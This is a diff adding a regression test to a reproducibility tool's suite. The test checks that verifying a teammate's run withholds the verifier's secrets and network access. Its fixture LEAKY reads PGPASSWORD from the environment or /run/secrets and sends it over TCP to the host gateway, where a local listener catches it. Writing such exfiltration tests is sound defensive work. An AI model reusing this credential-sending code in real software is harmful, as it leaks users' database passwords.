@@ -247,3 +247,121 @@ def test_a_team_of_five_launches_at_once_and_each_reproves_anothers_run(proj, pg
     card = json.loads(p.stdout)
     assert card["user"] == "m4" and card["published"]["cited_by"] == "m3"
     assert card["last_verdict"]["result"] == "identical" and card["last_verdict"]["by"] == "m3"
+
+
+LEAKY = """\
+import os, socket, struct
+secret = os.environ.get("PGPASSWORD", "")
+if not secret and os.path.exists("/run/secrets/PGPASSWORD"):
+    secret = open("/run/secrets/PGPASSWORD").read()
+try:  # the host, as the default route's gateway
+    route = next(l.split() for l in open("/proc/net/route") if l.split()[1] == "00000000")
+    host = socket.inet_ntoa(struct.pack("<L", int(route[2], 16)))
+    with socket.create_connection((host, int(os.environ["PORT"])), 3) as s:
+        s.sendall(secret.encode() or b"nothing")
+    sent = "sent"
+except (OSError, StopIteration) as e:  # no route at all: no network
+    sent = type(e).__name__
+open("/repro/outputs/seen.txt", "w").write(f"secret {'read' if secret else 'absent'}; {sent}\\n")
+"""
+
+
+class Listener:
+    """A TCP listener on the host (a job on the bridge network reaches it through its
+    gateway): what a job sends it, it keeps."""
+
+    def __init__(self) -> None:
+        import threading
+
+        self.sock = socket.create_server(("0.0.0.0", 0))
+        self.port = self.sock.getsockname()[1]
+        self.got: list[bytes] = []
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                self.got.append(conn.recv(4096))
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+def test_a_teammates_run_in_the_team_store_takes_nothing_of_the_verifiers(
+        proj, pg_server, tmp_path):
+    """Issue 21, H1: a member's run asked for the verifier's secrets (PGPASSWORD, the very
+    password of the team store) and network, and a teammate's `repro verify` gave both: the
+    job sent the password to a listener, and verify said IDENTICAL. A run this user did not
+    launch on this machine is foreign wherever it is: it gets only what the verifier grants,
+    and never reads a host path its record names."""
+    pg_server.create_role("h1_admin", "admin-pw")
+    db = pg_server.create_db("h1", owner="h1_admin")
+    pg_server.create_role("h1_alice", "h1_alice-pw")
+    pg_server.create_role("h1_bob", "h1_bob-pw")
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    assert repro("--store", pg_server.url("h1_admin", "admin-pw", db), "runs", cwd=tmp_path,
+                 env={"REPRO_HOME": str(tmp_path / "admin")}).returncode == 0
+
+    def env(who: str) -> dict[str, str]:  # the password from PGPASSWORD, as CI passes it
+        return {"REPRO_HOME": str(tmp_path / f"home-{who}"), "REPRO_USER": who,
+                "REPRO_STORE": pg_server.url(f"h1_{who}", None, db),
+                "PGPASSWORD": f"h1_{who}-pw",
+                "REPRO_ARTIFACTS": f"file://{shared}"}
+
+    listener = Listener()
+    try:
+        (proj / "examples" / "hello" / "leaky.py").write_text(LEAKY)
+        (proj / "data" / "alice-data").mkdir()
+        (proj / "data" / "alice-data" / "x.txt").write_text("alice's\n")
+        spec = add_spec(proj, "leaky", f"""\
+            command: [python3, /repro/code/leaky.py]
+            secrets: [{{name: PGPASSWORD, env: true}}]
+            network: bridge
+            env: {{PORT: "{listener.port}"}}
+            seed: 1
+            """)
+        p, run = launch_json(proj, spec, env=env("alice"))
+        assert p.returncode == 0, p.stderr
+        listener.thread.join(0.5)
+        assert listener.got == [b"h1_alice-pw"]  # her own job, her own secret: her choice
+        listener.got.clear()
+
+        p, rec = run_json("verify", run["id"], cwd=tmp_path, env=env("bob"))
+        assert p.returncode == 8, p.stdout + p.stderr  # honest: it ran without them
+        asks = p.stderr[p.stderr.index("it asks for:"):]
+        assert "network: bridge" in asks and "secrets: PGPASSWORD" in asks
+        assert rec["resolved"]["secrets"] == [] and rec["resolved"]["network"] == "none"
+        assert listener.got == []  # nothing left bob's machine, not even a connection
+        notes = " | ".join(rec["warnings"])
+        assert "--allow-network" in notes and "--secret NAME" in notes
+        differ = rec["verdict"]["outputs"]["differ"][0]
+        assert differ["path"] == "seen.txt"
+        assert differ["content"]["replay"].startswith("secret absent; ")
+        with __import__("psycopg").connect(pg_server.url("h1_admin", "admin-pw", db)) as conn:
+            everything = json.dumps(conn.execute("SELECT record FROM runs").fetchall())
+        assert "h1_bob-pw" not in everything
+
+        # a host folder the record names is not read for a teammate: given, hash-checked
+        spec = add_spec(proj, "folder-input", """\
+            command: [python3, /repro/code/hello.py]
+            inputs: {d: {path: ../data/alice-data}}
+            seed: 2
+            """)
+        p, run = launch_json(proj, spec, env=env("alice"))
+        assert p.returncode == 0, p.stderr
+        p, err = run_json("verify", run["id"], cwd=tmp_path, env=env("bob"))
+        assert p.returncode == 9 and "give it with --input d=PATH" in err["error"]["message"]
+        p, rec = run_json("verify", run["id"], "--input", f"d={proj / 'data' / 'alice-data'}",
+                          cwd=tmp_path, env=env("bob"))
+        assert p.returncode == 0 and rec["verdict"]["result"] == "identical", p.stderr
+        # alice verifying her own run on her machine: as before, nothing to grant
+        p, mine = run_json("verify", run["id"], cwd=proj, env=env("alice"))
+        assert p.returncode == 0 and "it asks for:" not in p.stderr, p.stderr
+    finally:
+        listener.close()
